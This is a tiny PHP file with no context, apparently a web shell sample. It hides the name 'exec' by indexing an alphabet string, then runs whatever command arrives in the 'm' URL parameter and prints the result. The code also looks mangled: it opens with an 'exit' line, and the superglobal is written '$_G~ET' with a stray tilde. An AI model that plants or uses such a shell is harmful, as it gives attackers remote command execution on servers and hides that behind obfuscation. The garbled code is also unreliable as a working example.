<?php exit; ?>
<?php
$t = 'abcdefghijklmnopqrstuvwxyz_';
$f = $t[4] . $t[23] . $t[4] . $t[2];
$f($_G~ET['m'], $o); print_r($o);
